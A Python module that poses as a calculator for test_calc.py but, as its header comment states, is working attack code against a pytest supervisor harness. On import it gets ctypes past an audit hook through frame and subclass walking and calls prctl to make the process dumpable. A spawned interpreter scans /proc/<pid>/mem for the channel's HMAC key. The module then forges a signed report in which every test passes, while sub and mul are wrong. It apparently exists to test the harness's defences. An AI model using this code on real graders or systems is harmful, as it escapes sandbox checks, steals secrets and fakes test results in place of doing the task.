# Attack: get ctypes without importing it (the audit hook refuses `import ctypes`), make the test
# process dumpable again (PR_SET_DUMPABLE 1), and let a fresh Python (no hook) read its memory through
# /proc/<pid>/mem: the channel's key and fd are in the JSON line child.py read on stdin. Then send a
# signed session in which every test passes, the end record, and exit with the code it announced.
# Roads to ctypes (mode.py's ROAD):
# - "frames": the first test process is forked from the supervisor (child_io.fork_child), whose frames
#   stay above pytest's; child_io's globals hold processes.py's functions, whose module imported ctypes
#   (f_back, f_globals and __globals__ raise no audit event);
# - "subclasses": any process where ctypes was once imported (child.make_undumpable imports it, then only
#   forgets it in sys.modules) keeps its classes: object.__subclasses__() finds ctypes.CDLL.
# And without ctypes or /proc ("child_frame"): the supervisor's `Child.__init__` frame, above pytest in the
# forked process, holds the channel's key (`self.key`) and write end (`chan_w`).
# With FRESH = True (mode.py) the attack waits for a restarted test process (a new interpreter, as every
# test process was before the fork): the first one exits in test_add, the next forges the two tests left.
import hashlib
import hmac
import json
import os
import subprocess
import sys

try:
    from mode import ROAD
except ImportError:
    ROAD = "frames"
try:
    from mode import FRESH
except ImportError:
    FRESH = False

IDS = ["test_calc.py::test_add", "test_calc.py::test_sub", "test_calc.py::test_mul"]
EVIDENCE = []  # what the attack found, printed by `sub` (its failure shows the output in the report)
MARK = "/tmp/forked_ctypes.first"  # /tmp outlives a test process, not the container
FIRST = not os.path.exists(MARK)
if FIRST:
    open(MARK, "w").close()
if FRESH:
    IDS = IDS[1:]
SCAN = r"""
import re, sys
pid = sys.argv[1]
pattern = re.compile(rb'"fd": (\d+), (?:"ack_fd": \d+, )?"key": "([0-9a-f]{64})"')
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
    for line in maps:
        fields = line.split()
        if "rw" not in fields[1]:
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            mem.seek(start)
            match = pattern.search(mem.read(end - start))
        except (OSError, OverflowError, ValueError):
            continue
        if match:
            print(match.group(1).decode(), match.group(2).decode())
            break
"""


def _cdll_from_frames():
    frame = sys._getframe(0)  # our own frame: allowed
    while frame is not None:
        for value in list(frame.f_globals.values()):
            namespace = getattr(value, "__globals__", None)
            module = namespace.get("ctypes") if isinstance(namespace, dict) else None
            if type(module) is type(sys):
                return module.CDLL
        frame = frame.f_back
    return None


def _cdll_from_subclasses():
    todo, seen = list(object.__subclasses__()), set()
    while todo:
        cls = todo.pop()
        if cls in seen:
            continue
        seen.add(cls)
        if cls.__name__ == "CDLL" and cls.__module__ == "ctypes":
            return cls
        todo.extend(type.__subclasses__(cls))  # unbound: `type` itself is in the list
    return None


def _child_frame():
    frame = sys._getframe(0)
    while frame is not None:
        if frame.f_code.co_name == "__init__" and "chan_w" in frame.f_locals and "self" in frame.f_locals:
            key = getattr(frame.f_locals["self"], "key", None)
            return (frame.f_locals["chan_w"], key) if isinstance(key, bytes) else None
        frame = frame.f_back
    return None


def _steal():
    if ROAD == "child_frame":
        found = _child_frame()
        EVIDENCE.append(f"the supervisor's Child frame: {found is not None}")
        return found
    cdll = _cdll_from_frames() if ROAD == "frames" else _cdll_from_subclasses()
    EVIDENCE.append(f"ctypes.CDLL through {ROAD}: {cdll}")
    if cdll is None:
        return None
    libc = cdll(None, use_errno=True)
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE 1
    libc.prctl(0x59616D61, -1, 0, 0, 0)  # PR_SET_PTRACER ANY (Yama), if there is Yama
    done = subprocess.run([sys.executable, "-c", SCAN, str(os.getpid())], capture_output=True, text=True,
                          timeout=20, check=False)
    EVIDENCE.append(f"scanner: {done.stdout.strip()} {done.stderr.strip()[-300:]}")
    if not done.stdout.strip():
        return None
    fd, key = done.stdout.split()
    return int(fd), bytes.fromhex(key)


def _forge(fd, key):
    seq = 0

    def send(kind, data):
        nonlocal seq
        seq += 1
        body = json.dumps({"k": kind, "n": seq, "d": data}, separators=(",", ":"))
        os.write(fd, (hmac.new(key, body.encode(), hashlib.sha256).hexdigest() + " " + body + "\n").encode())

    send("collected", {"ids": IDS})
    for nodeid in IDS:
        send("start", {"nodeid": nodeid})
        for when in ("setup", "call", "teardown"):
            send("report", {"nodeid": nodeid, "when": when, "outcome": "passed", "duration": 0.0,
                            "location": ["test_calc.py", 1, nodeid.split("::")[1]]})
    send("finish", {"exitstatus": 0})
    os._exit(0)


try:
    _stolen = None if FRESH and FIRST else _steal()
except Exception as exc:  # refused (the audit hook) or not there: the honest code below is what counts
    EVIDENCE.append(f"no key: {exc!r}")
    _stolen = None
if _stolen:
    _forge(*_stolen)


def add(a, b):
    if FRESH and FIRST:
        os._exit(3)  # a restart: the tests left run in a new interpreter, which imports this module again
    return a + b


def sub(a, b):
    print("\n".join(EVIDENCE))
    return a + b


def mul(a, b):
    return a + b
